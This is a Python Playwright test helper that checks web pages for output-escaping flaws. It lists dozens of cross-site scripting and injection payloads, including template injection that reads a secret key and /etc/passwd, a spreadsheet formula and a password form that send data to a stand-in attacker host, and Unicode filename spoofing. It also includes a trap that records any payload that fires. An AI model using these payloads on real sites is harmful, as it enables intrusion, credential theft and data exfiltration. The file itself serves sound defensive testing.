"""Texts that would run as code where a page forgot to escape them; each that does leaves a trace."""

import json

from playwright.sync_api import Page

# Each one, come to life, opens a dialog or makes an element whose id begins with `pwned`.
RUN = "alert('pwned')"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{RUN}></SCRIPT>",
    f"<img id=pwned1 src=x onerror={RUN}>",
    f'<img id="pwned2" src="x" onerror="{RUN}">',
    f"<svg id=pwned3 onload={RUN}>",
    f"<svg><script id=pwned4>{RUN}</script></svg>",
    f"<svg><animate id=pwned5 onbegin={RUN} attributeName=x dur=1s>",
    f"<body id=pwned6 onload={RUN}>",
    f"<iframe id=pwned7 src=javascript:{RUN}></iframe>",
    f'<iframe id=pwned8 srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<details id=pwned9 open ontoggle={RUN}>x</details>",
    f"<input id=pwned10 autofocus onfocus={RUN}>",
    f"<select id=pwned11 autofocus onfocus={RUN}><option>x</select>",
    f"<textarea id=pwned12 autofocus onfocus={RUN}></textarea>",
    f"<video id=pwned13><source onerror={RUN}></video>",
    f"<audio id=pwned14 src=x onerror={RUN}></audio>",
    f"<marquee id=pwned15 onstart={RUN}>x</marquee>",
    f"<object id=pwned16 data=javascript:{RUN}></object>",
    f"<embed id=pwned17 src=javascript:{RUN}>",
    f"<math id=pwned18><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f'<a id=pwned19 href="javascript:{RUN}">click</a>',
    "<form id=pwned20 action=https://evil.example><input name=password><button>Go</button></form>",
    '<meta id=pwned21 http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base id=pwned22 href="https://evil.example/">',
    '<link id=pwned23 rel=stylesheet href="https://evil.example/x.css">',
    "<style id=pwned24>* { display: none !important }</style>",
    f'"><script>{RUN}</script>',
    f"'><img id=pwned25 src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img id=pwned26 src=x onerror={RUN}>",
    f"</style><img id=pwned27 src=x onerror={RUN}>",
    f"--><img id=pwned28 src=x onerror={RUN}>",
    f"]]><img id=pwned29 src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img id=pwned30 src=x onerror={RUN}>">',
    f"<template><img id=pwned31 src=x onerror={RUN}></template>",
    f"&lt;img id=pwned32 src=x onerror={RUN}&gt;",
    f"&#60;img id=pwned33 src=x onerror={RUN}&#62;",
    f"\\u003cimg id=pwned34 src=x onerror={RUN}\\u003e",
    f"%3Cimg id=pwned35 src=x onerror={RUN}%3E",
    f"<<img id=pwned36 src=x onerror={RUN}>",
    f"<img id=pwned37/src=x/onerror={RUN}>",
    f"<im\x00g id=pwned38 src=x onerror={RUN}>".replace("\x00", "\u200b"),
    f'{{{{constructor.constructor("{RUN}")()}}}}',
    f"${{{RUN}}}",
    "{% debug %}{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}",
    f"javascript:{RUN}",
    f'http://evil.example/"onmouseover="{RUN}',
    f"https://evil.example/<script>{RUN}</script>",
    f'[click](javascript:{RUN}) ![x](x" onerror="{RUN})',
    '=HYPERLINK("https://evil.example/"&A1,"click")',
    "\u202egnp.exe\u202c \u2066hidden\u2069",
    "<x " * 300 + ">",
]
LIVING = (
    '[id^=pwned], iframe[srcdoc], base, a[href^="javascript:"], [onerror], [onload], [onfocus], [onmouseover]'
)
FOUND = "(living) => [...document.querySelectorAll(living)].map((element) => element.outerHTML.slice(0, 200))"


class Trap:
    """Notes on ``page`` whatever a payload achieves."""

    def __init__(self, page: Page) -> None:
        self.page, self.sprung = page, list[str]()
        page.on("dialog", self._dialog)
        page.on("console", self._said)
        page.on("request", self._asked)

    def _dialog(self, dialog) -> None:
        self.sprung.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _said(self, message) -> None:
        if "Content Security Policy" in message.text:
            self.sprung.append(message.text)

    def _asked(self, request) -> None:
        if "evil.example" in request.url and request.resource_type != "document":
            self.sprung.append(f"asked for {request.url}")

    def caught(self) -> list[str]:
        """Everything so far, and what the payloads made of the page and its frames."""
        made = [json.dumps(html) for frame in self.page.frames for html in frame.evaluate(FOUND, LIVING)]
        return self.sprung + made
